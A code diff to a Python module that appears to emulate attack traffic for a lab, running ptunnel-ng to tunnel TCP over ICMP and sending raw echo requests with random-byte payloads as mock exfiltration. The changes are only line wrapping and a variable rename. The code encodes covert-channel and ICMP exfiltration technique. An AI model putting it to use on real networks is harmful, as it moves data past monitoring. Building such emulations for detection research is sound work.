@@ -1,7 +1,7 @@
 # SPDX-License-Identifier: GPL-3.0-or-later
-"""Data in pings: ptunnel-ng with TCP through it, and files in the payload of echo requests that the far kernel answers as any
-other. All pings between two hosts within two minutes are one flow, so both go from pair of hosts to pair of hosts, and leave
-out pairs of which somebody else made use just now."""
+"""Data in pings: ptunnel-ng with TCP through it, and files in the payload of echo requests that the far kernel answers as
+any other. All pings between two hosts within two minutes are one flow, so both go from pair of hosts to pair of hosts, and
+leave out pairs of which somebody else made use just now."""
 import contextlib
 import socket
 import struct
@@ -49,7 +49,8 @@ def tunnel_icmp(me):
             port = rng.randrange(20000, 30000)
             loud = ["-v", "-1", "-m", magic]
             server = me.start(["ptunnel-ng", *loud, f"-r{far.address}", f"-R{inner}"], host=far)
-            tuned = rng.choice(([], ["-y", rng.randrange(200, 1200)], ["-a", rng.randrange(300, 1500)], ["-w", rng.randrange(8, 64)]))
+            tuned = rng.choice(([], ["-y", rng.randrange(200, 1200)], ["-a", rng.randrange(300, 1500)],
+                                ["-w", rng.randrange(8, 64)]))
             client = me.start(["ptunnel-ng", *loud, *tuned, "-p", far.address, "-l", port, f"-r{far.address}", f"-R{inner}"],
                               host=victim)
             try:
@@ -71,7 +72,7 @@ def _reached(port):
 @threat("exfil_icmp", family="exfiltration", seconds=(90, 200))
 def exfil_icmp(me):
     rng = me.rng
-    me_size, gap, slack = rng.choice((48, 120, 400, 900, 1300)), rng.uniform(0.06, 0.5), rng.random() < 0.5
+    size, gap, slack = rng.choice((48, 120, 400, 900, 1300)), rng.uniform(0.06, 0.5), rng.random() < 0.5
     longest = max(2.5, min(8.0, me.left() / 27))
     counted = rng.random() < 0.7  # sequence numbers as ping has them, or a field for data too
     for victim, far in pairs(me):
@@ -82,9 +83,9 @@ def exfil_icmp(me):
             for number in range(1, 400):
                 if time.monotonic() > end or me.over():
                     break
-                count = rng.randrange(me_size // 2, me_size + 1) if slack else me_size
+                data = rng.randbytes(rng.randrange(size // 2, size + 1) if slack else size)
                 with contextlib.suppress(OSError):
-                    raw.sendto(_echo(ident, number if counted else rng.getrandbits(16), rng.randbytes(count)), (far.address, 0))
+                    raw.sendto(_echo(ident, number if counted else rng.getrandbits(16), data), (far.address, 0))
                 me.sleep(rng.expovariate(1 / gap) if slack else gap)
         me.sleep(rng.uniform(0.1, 1.5))
 
